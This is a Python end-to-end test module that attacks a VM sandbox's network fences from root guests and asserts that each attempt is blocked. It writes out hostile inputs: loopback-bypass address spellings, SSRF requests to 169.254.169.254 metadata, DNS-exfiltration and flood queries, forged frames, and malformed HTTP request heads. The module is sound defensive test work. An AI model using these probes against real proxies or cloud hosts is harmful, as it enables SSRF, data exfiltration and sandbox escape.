"""The hostile guest against the network fences, on the real stack, as root in real guests.

Two sessions boot once for the module: an allowlist one and a blocklist one. Each test is one
or more escape attempts made from inside a guest with ``sudo`` (raw sockets, forged frames,
hand-written proxy requests), asserts the safe result on the host side where it can be seen
(a host service that records connections, a sniffer on the session's bridge, a recording DNS
resolver, the network log), and then that the session still works (a listed site answers
through the proxy).

"The host" is the lab namespace: its services listen there on ``0.0.0.0`` and on loopback;
the "outside world" is a namespace this run creates behind it (``netlab.py``). Attempts:

 1-2   a host service on 0.0.0.0 via the session's gateway (both modes)
 3-4   the same service via the host's other network and the other session's gateway
 5-6   TCP from source port 22 to a host port (a forged "SSH reply", both modes)
 7-14  forged frames: MAC, IP and ARP spoofing, IPv6 (both modes), each with a control
 15    the other session's guest (SSH) and gateway services, in both directions
 16-17 CONNECT to a loopback-only host service as [::ffff:127.0.0.1] and other spellings
 18    CONNECT to a port the policy does not name
 19    CONNECT to the other session's guest 10.213.x.2:22 and gateway by IP literal
 20    DNS exfiltration to unlisted (and blocked) names, seen by a recording upstream
 21    DNS rebinding: a listed name mapped to 127.0.0.1 or into the session pool
 22    malformed request heads (bare LF, duplicate Host, mismatches, NUL, folding)
 23-24 link-local metadata 169.254.169.254, directly and through the proxy (both modes)
 25    a DNS flood, after which the earlier decisions are still logged or summarised
 26    stop -> start in both modes, after which the fence still holds
"""

from __future__ import annotations

import asyncio
import contextlib
import secrets
import shlex
import shutil
import socket
import struct
import subprocess
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from e2e.netlab import (
    LINK_HOST,
    Box,
    LoopThread,
    Site,
    ensure_hosts,
    network_project,
    sites_namespace,
    wait_until,
)

from vibebox_core.hypervisor import names
from vibebox_core.index.sessions import SessionIndex
from vibebox_core.network import log
from vibebox_core.session import teardown
from vibebox_core.session.running import RunningSession
from vibebox_core.session.start import ensure_running

pytestmark = pytest.mark.e2e

SITE_IP = "10.77.0.30"  # site.hostile.test: the listed site
FREE_IP = "10.77.0.31"  # free.hostile.test: unlisted, reached by NAT in blocklist mode
METADATA_IP = "169.254.169.254"
HOST_PORT = 18991  # a host service on 0.0.0.0 (outside the ephemeral range)
HOST_EPHEMERAL_PORT = 45091  # a host service inside the ephemeral range (the SSH-reply probe)
HOSTS_LINES = {
    f"{SITE_IP}\tsite.hostile.test",
    f"{FREE_IP}\tfree.hostile.test",
    "127.0.0.1\trebind-loop.site.hostile.test",
    "10.213.0.1\trebind-pool.site.hostile.test",
}
PROBE = Path(__file__).with_name("guest_probe.py")


# --------------------------------------------------------------------------- host side


@dataclass
class _Listener:
    """A TCP service that records who connected (and never answers)."""

    sock: socket.socket
    peers: list[str] = field(default_factory=list)

    def serve(self) -> None:
        while True:
            try:
                conn, peer = self.sock.accept()
            except OSError:
                return
            self.peers.append(str(peer[0]))
            conn.close()


def _listen(address: tuple[str, int]) -> _Listener:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(address)
    sock.listen(64)
    return _Listener(sock)


@dataclass
class _Recorder:
    """The lab's upstream resolver (127.0.0.1:53 in its resolv.conf): records, says NXDOMAIN."""

    sock: socket.socket
    names: list[str] = field(default_factory=list)

    def serve(self) -> None:
        while True:
            try:
                packet, addr = self.sock.recvfrom(4096)
            except OSError:
                return
            labels, offset = [], 12
            while offset < len(packet) and packet[offset]:
                length = packet[offset]
                labels.append(packet[offset + 1 : offset + 1 + length].decode("latin-1"))
                offset += 1 + length
            self.names.append(".".join(labels).lower())
            if len(packet) >= 12:
                flags = 0x8183  # a response, NXDOMAIN
                reply = packet[:2] + struct.pack("!H", flags) + packet[4:6] + b"\0" * 6
                with contextlib.suppress(OSError):
                    self.sock.sendto(reply + packet[12 : offset + 5], addr)


@dataclass
class _Sniffer:
    """Frames that reach the host's side of a session bridge and carry a test marker."""

    sock: socket.socket
    frames: list[bytes] = field(default_factory=list)

    def serve(self) -> None:
        while True:
            try:
                frame = self.sock.recv(65535)
            except OSError:
                return
            if b"VBXMARK-" in frame:
                self.frames.append(frame)

    def seen(self, marker: str) -> list[bytes]:
        return [f for f in self.frames if marker.encode() in f]


@dataclass
class Lab:
    site: Site
    free: Site
    metadata: Site
    site_tls: _Listener
    site_8443: _Listener
    host: _Listener
    host_ephemeral: _Listener
    loopback: _Listener
    upstream: _Recorder


def _start(target: Callable[[], object]) -> None:
    threading.Thread(target=target, daemon=True).start()


@pytest.fixture(scope="module")
def lab(require_lab: None) -> Iterator[Lab]:
    ensure_hosts(HOSTS_LINES)
    with sites_namespace([SITE_IP, FREE_IP, METADATA_IP], routes=[f"{METADATA_IP}/32"]) as ns:
        upstream_sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        upstream_sock.bind(("127.0.0.1", 53))
        built = Lab(
            site=ns.inside(lambda: Site("listed", (SITE_IP, 80))),
            free=ns.inside(lambda: Site("free", (FREE_IP, 80))),
            metadata=ns.inside(lambda: Site("metadata", (METADATA_IP, 80))),
            site_tls=ns.inside(lambda: _listen((SITE_IP, 443))),
            site_8443=ns.inside(lambda: _listen((SITE_IP, 8443))),
            host=_listen(("0.0.0.0", HOST_PORT)),
            host_ephemeral=_listen(("0.0.0.0", HOST_EPHEMERAL_PORT)),
            loopback=_listen(("127.0.0.1", 443)),
            upstream=_Recorder(upstream_sock),
        )
        servers = [built.site, built.free, built.metadata]
        for server in servers:
            _start(server.serve_forever)
        listeners = [built.site_tls, built.site_8443, built.host, built.host_ephemeral]
        listeners.append(built.loopback)
        for listener in listeners:
            _start(listener.serve)
        _start(built.upstream.serve)
        try:
            yield built
        finally:
            for server in servers:
                server.shutdown()
                server.server_close()
            for listener in listeners:
                listener.sock.close()
            upstream_sock.close()


# --------------------------------------------------------------------------- sessions


@dataclass
class Boxes:
    allow: Box
    block: Box
    loop: LoopThread
    sniffers: dict[str, _Sniffer] = field(default_factory=dict)

    def both(self) -> list[Box]:
        return [self.allow, self.block]


def _install_probe(box: Box) -> None:
    rc, out = box.sh(
        f"cat > /tmp/vbxprobe.py <<'VBXEOF'\n{PROBE.read_text()}\nVBXEOF\n"
        "python3 -c 'import ast,sys; ast.parse(open(\"/tmp/vbxprobe.py\").read())'"
    )
    assert rc == 0, out


def _sniff(box: Box) -> _Sniffer:
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    sock.bind((names.bridge_name(box.session.session_id), 0))
    sniffer = _Sniffer(sock)
    _start(sniffer.serve)
    return sniffer


@pytest.fixture(scope="module")
def boxes(e2e_home_shared: Path, lab: Lab) -> Iterator[Boxes]:
    loop = LoopThread()
    allow = network_project(
        "vbx-hnet-allow-", 'mode = "allowlist"\nentries = ["site.hostile.test"]'
    )
    block = network_project(
        "vbx-hnet-block-", 'mode = "blocklist"\nentries = ["*.blocked.hostile.test"]'
    )

    async def start() -> list[RunningSession]:
        return list(
            await asyncio.gather(
                ensure_running(allow, client="e2e-hostile"),
                ensure_running(block, client="e2e-hostile"),
            )
        )

    sessions: list[RunningSession] = []
    made: Boxes | None = None
    try:
        sessions = loop.run(start())
        made = Boxes(
            Box("allow", allow, sessions[0], loop), Box("block", block, sessions[1], loop), loop
        )
        for box in made.both():
            _install_probe(box)
            made.sniffers[box.label] = _sniff(box)
        yield made
    finally:
        if made is not None:
            for sniffer in made.sniffers.values():
                sniffer.sock.close()
            sessions = [made.allow.session, made.block.session]
        for session in sessions:
            with contextlib.suppress(Exception):
                loop.run(session.close(), 60)
        for project in (allow, block):
            entry = SessionIndex().find_by_directory(project.root)
            if entry is not None:
                loop.run(teardown.delete(entry), 180)
            shutil.rmtree(project.root, ignore_errors=True)
        loop.close()


def _code(box: Box, url: str, *extra: str) -> str:
    args = " ".join(shlex.quote(a) for a in extra)
    _, out = box.sh(f"curl -sk -m 10 -o /dev/null -w '%{{http_code}}' {args} {shlex.quote(url)}")
    return out.strip()[-3:]


def still_works(box: Box, lab: Lab) -> None:
    """The session survived the attempt: the listed site answers through the proxy."""
    path = f"/alive-{secrets.token_hex(4)}"
    host = "site.hostile.test"
    rc, out = box.sh(f"curl -sS -m 20 http://{host}{path}")
    assert rc == 0 and "site listed ok" in out, (box.label, out)
    assert (host, path) in lab.site.requests


def _probe(box: Box, *args: str) -> str:
    rc, out = box.sh("sudo python3 /tmp/vbxprobe.py " + " ".join(shlex.quote(a) for a in args))
    assert rc == 0, out
    return out.strip().splitlines()[-1]


def _route(box: Box, network: str) -> None:
    """As root, send ``network`` via the gateway (the guest owns its routing table)."""
    rc, out = box.sh(f"sudo ip route replace {network} via {box.gateway}")
    assert rc == 0, out


def _iface(box: Box) -> str:
    rc, out = box.sh(f"ip -o -4 addr show | awk '$4 ~ /^{box.ip}\\//{{print $2}}'")
    assert rc == 0 and out.strip(), out
    return out.strip().split()[0]


def _other(boxes: Boxes, box: Box) -> Box:
    return boxes.block if box is boxes.allow else boxes.allow


MODES = ["allow", "block"]


def _box(boxes: Boxes, mode: str) -> Box:
    return boxes.allow if mode == "allow" else boxes.block


# --------------------------------------------------------------------------- host ports


@pytest.mark.parametrize("mode", MODES)
def test_host_service_on_all_addresses_is_unreachable_via_the_gateway(
    boxes: Boxes, lab: Lab, mode: str
) -> None:
    box = _box(boxes, mode)
    rc, out = box.sh(f"curl -sS -m 5 --noproxy '*' http://{box.gateway}:{HOST_PORT}/")
    assert rc != 0, out
    rc, out = box.sh(f"timeout 5 bash -c '</dev/tcp/{box.gateway}/{HOST_EPHEMERAL_PORT}'")
    assert rc != 0, out
    # A control from the host itself shows the service is really there.
    with socket.create_connection((box.gateway, HOST_PORT), timeout=5):
        pass
    assert wait_until(lambda: box.gateway in lab.host.peers, 5)
    assert box.ip not in lab.host.peers + lab.host_ephemeral.peers
    still_works(box, lab)


@pytest.mark.parametrize("mode", MODES)
def test_host_service_via_other_networks_and_bridges_is_unreachable(
    boxes: Boxes, lab: Lab, mode: str
) -> None:
    box, other = _box(boxes, mode), _other(boxes, _box(boxes, mode))
    _route(box, f"{LINK_HOST}/32")
    _route(box, f"{other.gateway}/32")
    for address in (LINK_HOST, other.gateway, "127.0.0.1"):
        rc, out = box.sh(f"curl -sS -m 5 --noproxy '*' http://{address}:{HOST_PORT}/")
        assert rc != 0, (address, out)
    assert box.ip not in lab.host.peers
    still_works(box, lab)


@pytest.mark.parametrize("mode", MODES)
def test_tcp_from_source_port_22_is_not_taken_for_an_ssh_reply(
    boxes: Boxes, lab: Lab, mode: str
) -> None:
    box = _box(boxes, mode)
    # Control: the probe sees the proxy's answer to a SYN from an ordinary port.
    assert _probe(box, "syn", box.ip, "40022", box.gateway, "3128") == "synack"
    # The old hole: a guest "reply" from port 22 to any host port.
    for port in (HOST_EPHEMERAL_PORT, HOST_PORT):
        assert _probe(box, "syn", box.ip, "22", box.gateway, str(port)) == "none", port
    assert box.ip not in lab.host.peers + lab.host_ephemeral.peers
    still_works(box, lab)


@pytest.mark.parametrize("mode", MODES)
def test_forged_frames_never_reach_the_host(boxes: Boxes, lab: Lab, mode: str) -> None:
    box = _box(boxes, mode)
    sniffer = boxes.sniffers[box.label]
    iface = _iface(box)
    markers = {
        kind: f"VBXMARK-{kind}-{secrets.token_hex(6)}"
        for kind in ("legit", "mac", "ip", "arp", "ipv6")
    }
    for kind, marker in markers.items():
        assert _probe(box, "frame", iface, kind, marker, box.gateway) == "sent"
    # The control arrives (the sniffer sees what passes the fence) ...
    assert wait_until(lambda: bool(sniffer.seen(markers["legit"])), 10)
    # ... a spoofed MAC, a spoofed IPv4, a spoofed ARP sender and IPv6 do not.
    for kind in ("mac", "ip", "arp", "ipv6"):
        assert sniffer.seen(markers[kind]) == [], kind
    # And after claiming another address for real, nothing of it gets out either.
    spoof = ".".join([*box.gateway.split(".")[:3], "99"])
    rc, out = box.sh(
        f"sudo ip addr add {spoof}/32 dev {iface} && "
        f"curl -sS -m 5 --interface {spoof} --noproxy '*' http://{box.gateway}:3128/; "
        f"rc=$?; sudo ip addr del {spoof}/32 dev {iface}; exit $rc"
    )
    assert rc != 0, out
    still_works(box, lab)


def test_other_session_guest_and_gateway_are_unreachable(boxes: Boxes, lab: Lab) -> None:
    for box in boxes.both():
        other = _other(boxes, box)
        _route(box, f"{other.ip}/32")
        _route(box, f"{other.gateway}/32")
        rc, out = box.sh(f"timeout 5 bash -c '</dev/tcp/{other.ip}/22'")
        assert rc != 0, (box.label, out)
        for port in (3128, 53, 22):
            rc, out = box.sh(f"timeout 5 bash -c '</dev/tcp/{other.gateway}/{port}'")
            assert rc != 0, (box.label, port, out)
        udp = (
            "import socket,sys; s=socket.socket(2,2); s.settimeout(3); "
            "s.sendto(b'x'*12, (sys.argv[1], 53)); s.recv(512)"
        )
        rc, out = box.sh(f"timeout 5 python3 -c {shlex.quote(udp)} {other.gateway}")
        assert rc != 0, out
    for box in boxes.both():
        still_works(box, lab)


# --------------------------------------------------------------------------- the proxy


def _connect_status(box: Box, target: str, headers: str = "") -> str:
    """The proxy's status line for a hand-written ``CONNECT target``."""
    script = (
        "import socket,sys; s=socket.create_connection((sys.argv[1], 3128), 10); "
        "s.sendall(sys.argv[2].encode('latin-1')); print(s.recv(4096).decode('latin-1'))"
    )
    head = f"CONNECT {target} HTTP/1.1\r\n{headers}\r\n"
    rc, out = box.sh(f"python3 -c {shlex.quote(script)} {box.gateway} {shlex.quote(head)}")
    assert rc == 0, out
    return out


@pytest.mark.parametrize("mode", MODES)
def test_connect_to_host_loopback_in_any_spelling_is_refused(
    boxes: Boxes, lab: Lab, mode: str
) -> None:
    box = _box(boxes, mode)
    for target in (
        "[::ffff:127.0.0.1]:443",
        "[::ffff:7f00:1]:443",
        "[::1]:443",
        "[64:ff9b::7f00:1]:443",
        "[2002:7f00:1::]:443",
        "127.0.0.1:443",
        "2130706433:443",
        "0x7f.1:443",
        "017700000001:443",
        "127.1:443",
        f"{LINK_HOST}:443",
    ):
        reply = _connect_status(box, target)
        assert reply.startswith("HTTP/1.1 403"), (target, reply)
    assert lab.loopback.peers == []
    still_works(box, lab)


def test_connect_to_an_unlisted_port_is_refused(boxes: Boxes, lab: Lab) -> None:
    box = boxes.allow
    assert _connect_status(box, "site.hostile.test:443").startswith("HTTP/1.1 200")  # control
    for port in (8443, 22, 80):
        reply = _connect_status(box, f"site.hostile.test:{port}")
        assert reply.startswith("HTTP/1.1 403") and "not allowed" in reply, (port, reply)
    assert lab.site_8443.peers == []
    assert box.logged("proxy", "site.hostile.test", 8443, "blocked")
    still_works(box, lab)


def test_connect_to_another_session_by_ip_literal_is_refused(boxes: Boxes, lab: Lab) -> None:
    box, other = boxes.block, boxes.allow  # blocklist mode admits IP literals by name
    for target in (
        f"{other.ip}:22",
        f"{other.ip}:443",
        f"{other.gateway}:443",
        f"[::ffff:{other.ip}]:443",
    ):
        reply = _connect_status(box, target)
        assert reply.startswith("HTTP/1.1 403"), (target, reply)
    still_works(box, lab)


def test_rebinding_a_listed_name_to_the_host_or_the_pool_is_refused(boxes: Boxes, lab: Lab) -> None:
    box = boxes.allow
    for name, reason in (("rebind-loop", "loopback"), ("rebind-pool", "session range")):
        reply = _connect_status(box, f"{name}.site.hostile.test:443")
        assert reply.startswith("HTTP/1.1 403") and reason in reply, (name, reply)
        assert _code(box, f"http://{name}.site.hostile.test/") == "403", name
    assert lab.loopback.peers == []
    still_works(box, lab)


def test_malformed_request_heads_are_refused(boxes: Boxes, lab: Lab) -> None:
    box = boxes.allow
    heads = {
        "bare-lf": "GET http://site.hostile.test/m1 HTTP/1.1\nHost: site.hostile.test\n\n",
        "dup-host": "GET http://site.hostile.test/m2 HTTP/1.1\r\nHost: site.hostile.test\r\n"
        "Host: free.hostile.test\r\n\r\n",
        "mismatch": "GET http://site.hostile.test/m3 HTTP/1.1\r\nHost: free.hostile.test\r\n\r\n",
        "connect-mismatch": "CONNECT site.hostile.test:443 HTTP/1.1\r\n"
        "Host: free.hostile.test:443\r\n\r\n",
        "nul": "GET http://site.hostile.test/m5 HTTP/1.1\r\nX: a\x00b\r\n\r\n",
        "folding": "GET http://site.hostile.test/m6 HTTP/1.1\r\nX: a\r\n b\r\n\r\n",
    }
    script = (
        "import socket,sys; s=socket.create_connection((sys.argv[1], 3128), 10); "
        "s.sendall(bytes.fromhex(sys.argv[2])); print(s.recv(4096).decode('latin-1'))"
    )
    tls_before = list(lab.site_tls.peers)
    for name, head in heads.items():
        rc, out = box.sh(
            f"python3 -c {shlex.quote(script)} {box.gateway} {head.encode('latin-1').hex()}"
        )
        assert rc == 0 and (out.startswith("HTTP/1.1 400") or out.startswith("HTTP/1.1 431")), (
            name,
            out,
        )
    assert not [r for r in lab.site.requests if r[1].startswith("/m")]
    assert lab.site_tls.peers == tls_before
    still_works(box, lab)


@pytest.mark.parametrize("mode", MODES)
def test_link_local_metadata_is_unreachable(boxes: Boxes, lab: Lab, mode: str) -> None:
    box = _box(boxes, mode)
    _route(box, f"{METADATA_IP}/32")
    rc, out = box.sh(f"curl -sS -m 5 --noproxy '*' http://{METADATA_IP}/latest/meta-data/")
    assert rc != 0, out
    assert _code(box, f"http://{METADATA_IP}/latest/meta-data/") == "403"  # via the proxy
    assert _connect_status(box, f"{METADATA_IP}:443").startswith("HTTP/1.1 403")
    assert lab.metadata.requests == []
    still_works(box, lab)


def test_blocklist_keeps_nat_egress_to_the_outside(boxes: Boxes, lab: Lab) -> None:
    """The control for the blocklist fence: the outside world is still reachable directly."""
    box = boxes.block
    rc, out = box.sh("curl -sS -m 20 --noproxy '*' http://free.hostile.test/direct")
    assert rc == 0 and "site free ok" in out, out
    assert ("free.hostile.test", "/direct") in lab.free.requests


# --------------------------------------------------------------------------- DNS and the log


def test_dns_exfiltration_to_unlisted_names_never_leaves_the_host(boxes: Boxes, lab: Lab) -> None:
    token = secrets.token_hex(5)
    allow, block = boxes.allow, boxes.block
    txt = (
        "import socket,struct,sys; name=sys.argv[2]; "
        "q=struct.pack('!HHHHHH',0x4242,0x0100,1,0,0,0)"
        "+b''.join(bytes([len(p)])+p.encode() for p in name.split('.'))"
        "+b'\\0'+struct.pack('!HH',16,1); "
        "s=socket.socket(2,2); s.settimeout(5); s.sendto(q,(sys.argv[1],53)); r=s.recv(512); "
        "print('rcode', r[3] & 15)"
    )
    rc, out = allow.sh(f"getent hosts secret-{token}.unlisted.example")
    assert rc != 0, out
    rc, out = allow.sh(
        f"python3 -c {shlex.quote(txt)} {allow.gateway} txt-{token}.unlisted.example"
    )
    assert "rcode 3" in out, out  # NXDOMAIN, answered by the filter itself
    rc, out = block.sh(f"getent hosts leak-{token}.blocked.hostile.test")
    assert rc != 0, out
    # Control: a blocklist query for an unlisted name does go upstream (and so is seen).
    block.sh(f"getent hosts probe-{token}.free.example")
    assert wait_until(lambda: any(f"probe-{token}" in n for n in lab.upstream.names), 20)
    leaked = [n for n in lab.upstream.names if token in n and not n.startswith("probe-")]
    assert leaked == []
    assert allow.logged("dns", f"secret-{token}.unlisted.example", 53, "blocked")
    for box in boxes.both():
        still_works(box, lab)


def test_a_dns_flood_does_not_erase_the_audit_trail(boxes: Boxes, lab: Lab) -> None:
    box = boxes.allow
    token = secrets.token_hex(4)
    early = f"early-{token}.unlisted.example"
    rc, _ = box.sh(f"getent hosts {early}")
    assert rc != 0
    assert wait_until(lambda: box.logged("dns", early, 53, "blocked"), 10)
    flood = (
        "import socket,struct,sys\n"
        "s=socket.socket(2,2); s.setblocking(False)\n"
        "for i in range(int(sys.argv[2])):\n"
        "    name=f'f{i}-" + token + ".flood.example'\n"
        "    q=struct.pack('!HHHHHH',i&0xffff,0x0100,1,0,0,0)"
        "+b''.join(bytes([len(p)])+p.encode() for p in name.split('.'))"
        "+b'\\0'+struct.pack('!HH',1,1)\n"
        "    try: s.sendto(q,(sys.argv[1],53))\n"
        "    except BlockingIOError: pass\n"
    )
    rc, out = box.sh(f"python3 -c {shlex.quote(flood)} {box.gateway} 6000", timeout=120)
    assert rc == 0, out
    log_path = box.project.network_log

    def flood_counted() -> int:
        events = [e for e in log.tail(log_path, 2000) if "flood.example" in e.host]
        earlier = [r for r in log.earlier(log_path) if "flood.example" in r.host]
        return sum(e.count for e in events) + sum(r.count for r in earlier)

    # The flood is counted (summaries appear when the supervisor's window closes) ...
    assert wait_until(lambda: flood_counted() > 300, 60), flood_counted()
    summaries = [e for e in log.tail(log_path, 2000) if e.count > 1 and "flood.example" in e.host]
    assert summaries and all("more blocked DNS queries" in e.reason for e in summaries)
    # ... it took few lines, and the decision before it is still there.
    assert len(log_path.read_text().splitlines()) < 2000
    assert box.logged("dns", early, 53, "blocked") or any(
        r.host == early for r in log.earlier(log_path)
    )
    still_works(box, lab)


# --------------------------------------------------------------------------- restart (last)


def test_stop_then_start_in_both_modes_keeps_the_fence(boxes: Boxes, lab: Lab) -> None:
    loop = boxes.loop
    for box in boxes.both():
        loop.run(box.session.close(), 60)
        assert loop.run(teardown.stop(box.project), 180)

    async def start() -> list[RunningSession]:
        return list(
            await asyncio.gather(
                ensure_running(boxes.allow.project, client="e2e-hostile"),
                ensure_running(boxes.block.project, client="e2e-hostile"),
            )
        )

    sessions = loop.run(start())  # the second start of an allowlist session used to fail
    boxes.allow.session, boxes.block.session = sessions
    for box in boxes.both():
        still_works(box, lab)
        before = list(lab.host.peers)
        rc, out = box.sh(f"curl -sS -m 5 --noproxy '*' http://{box.gateway}:{HOST_PORT}/")
        assert rc != 0, out
        assert box.ip not in lab.host.peers, (before, _fence_state(box))


def _fence_state(box: Box) -> str:
    """What libvirt says about the session's interface filter (context for a failure)."""
    sid = box.session.session_id

    def run(*cmd: str) -> str:
        done = subprocess.run(cmd, capture_output=True, text=True)
        return (done.stdout + done.stderr).strip()

    virsh = ("virsh", "-c", "qemu:///system")
    return "\n".join(
        [
            run(*virsh, "domiflist", sid),
            run(*virsh, "nwfilter-binding-list"),
            run("sh", "-c", f"virsh -c qemu:///system dumpxml {sid} | grep -A4 filterref"),
            run("sh", "-c", "iptables -S | grep -c -- '-A HI-'"),
            run("sh", "-c", "ebtables -t nat -L | grep -c 'Bridge chain: I-'"),
        ]
    )
